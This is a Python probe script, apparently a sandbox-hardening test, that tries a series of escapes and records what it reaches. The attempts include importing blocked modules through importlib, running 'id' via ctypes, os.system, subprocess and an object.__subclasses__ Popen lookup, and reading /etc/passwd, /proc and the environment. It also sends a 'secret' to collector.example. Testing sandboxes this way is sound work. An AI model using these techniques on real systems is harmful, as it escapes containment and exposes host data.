"""Tries to reach something outside, in the ways published escapes begin, and reports what it got."""

import os
import sys

reached, got = [], {}


def attempt(what, act):
    try:
        value = act()
    except BaseException as error:
        got[what] = f"{type(error).__name__}: {error}"
    else:
        got[what] = repr(value)[:80]
        if value not in (None, -1, "", b"", {}, []):
            reached.append(what)


def smuggled(name):
    """A module the policy does not grant, by way of one that it does."""
    return sys.modules["importlib"].import_module(name)


attempt("the bridge to JavaScript", lambda: smuggled("js").process.env)
attempt("its C part", lambda: smuggled("_pyodide_core"))
attempt("foreign functions", lambda: smuggled("ctypes").CDLL(None).system(b"id"))
attempt("a shell", lambda: os.system("id"))
attempt("a process", lambda: smuggled("subprocess").check_output(["id"]))
attempt("a fork", lambda: os.fork())
attempt("a file of the host", lambda: open("/etc/passwd").read())
attempt("the processes of the host", lambda: os.listdir("/proc"))
attempt("the environment of the host", lambda: dict(os.environ))
attempt("a socket", lambda: smuggled("socket").create_connection(("127.0.0.1", 22)))
attempt("an import that is not granted", lambda: __import__("subprocess"))
attempt(
    "a class that runs programs",
    lambda: [c for c in object.__subclasses__() if c.__name__ == "Popen"][0](["id"]).wait(),
)
try:
    await smuggled("citadel").fetch("https://collector.example/?secret=1")
    reached.append("a server")
except Exception as error:
    got["a server"] = f"{type(error).__name__}: {error}"

{"reached": reached, "got": got}
